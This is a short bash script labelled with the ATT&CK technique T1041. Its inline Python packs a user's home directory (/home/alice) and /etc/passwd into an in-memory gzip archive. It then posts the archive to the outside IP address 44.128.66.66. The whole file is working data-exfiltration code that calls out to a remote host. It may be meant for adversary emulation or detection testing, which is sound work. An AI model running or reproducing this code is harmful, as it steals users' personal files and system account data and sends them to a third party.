#!/bin/bash
# T1041: A script packs a user's documents in memory and posts them.
python3 -c '
import tarfile,io,urllib.request
b=io.BytesIO(); t=tarfile.open(fileobj=b,mode="w:gz"); t.add("/home/alice"); t.add("/etc/passwd"); t.close()
urllib.request.urlopen(urllib.request.Request("http://44.128.66.66/p",data=b.getvalue()))'
